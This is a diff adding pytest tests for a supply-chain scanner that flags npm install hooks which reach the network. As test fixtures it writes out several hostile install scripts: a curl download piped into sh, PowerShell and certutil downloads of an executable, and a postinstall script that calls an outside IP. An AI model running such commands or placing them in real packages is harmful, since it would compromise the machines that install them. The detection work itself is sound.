@@ -1,0 +1,75 @@
+"""npm lifecycle hooks: an installScripts finding each, network tools as install-time network."""
+
+from __future__ import annotations
+
+import io
+import json
+import tarfile
+from pathlib import Path
+
+from click.testing import CliRunner
+
+from egress.cli import main
+from egress.context import node_files_of
+from egress.install_scripts import script_findings
+from egress.model import Ecosystem, FindingKind, PackageArtifact, Timing
+
+
+def _artifact(scripts: dict, lines: dict | None = None) -> PackageArtifact:
+    return PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=lambda want: iter(()),
+                           metadata={"kind": "tarball", "scripts": scripts, "script_lines": lines or {}})
+
+
+def test_a_shell_download_is_an_install_time_network_finding() -> None:
+    found = script_findings(_artifact({"postinstall": "curl -s https://203.0.113.7/x | sh", "test": "jest"},
+                                      {"postinstall": 6}))
+    assert [(f.kind, f.api, f.file, f.line, f.timing, f.note) for f in found] == [
+        (FindingKind.INSTALL_SCRIPT, "scripts.postinstall", "package.json", 6, Timing.INSTALL,
+         "calls curl; starts pipe, sh"),
+        (FindingKind.NETWORK, "curl", "package.json", 6, Timing.INSTALL, "postinstall script runs curl"),
+    ]
+
+
+def test_powershell_and_certutil_and_a_quiet_hook() -> None:
+    found = script_findings(_artifact({
+        "preinstall": "powershell -c Invoke-WebRequest -Uri http://x -OutFile a.exe",
+        "install": "certutil -urlcache -f http://x a.exe",
+        "prepare": "husky install",
+    }))
+    assert sorted((f.kind.value, f.api) for f in found) == [
+        ("installScript", "scripts.install"), ("installScript", "scripts.preinstall"),
+        ("installScript", "scripts.prepare"),
+        ("network", "certutil"), ("network", "powershell Invoke-WebRequest")]
+    assert next(f for f in found if f.api == "scripts.prepare").note == ""
+
+
+def test_inline_node_code_runs_the_files_it_requires() -> None:
+    assert node_files_of('node -e "try{require(\'./postinstall\')}catch(e){}"') == ["postinstall.js"]
+
+
+def _tgz(path: Path, members: dict[str, str]) -> Path:
+    with tarfile.open(path, "w:gz") as archive:
+        for name, text in members.items():
+            data = text.encode()
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return path
+
+
+def test_end_to_end_install_time_network_is_high(tmp_path: Path) -> None:
+    manifest = json.dumps({"name": "hooky", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}},
+                          indent=2)
+    tgz = _tgz(tmp_path / "hooky.tgz", {
+        "package/package.json": manifest,
+        "package/install.js": "const https = require('https');\nhttps.get('https://203.0.113.7/p');\n",
+    })
+    result = CliRunner().invoke(main, ["scan", str(tgz), "--format", "json", "--cache-dir", str(tmp_path / "c")])
+    assert result.exit_code == 0, result.stderr
+    [pkg] = json.loads(result.stdout)["packages"]
+    assert sorted((a["type"], a["severity"], a["file"], a["line"], a["timing"]) for a in pkg["alerts"]) == [
+        ("installScripts", "high", "package.json", 5, "install"),
+        ("installTimeNetwork", "high", "install.js", 2, "install"),
+        ("networkAccess", "medium", "install.js", 2, "install"),
+    ]
+    assert pkg["severity"] == "high"
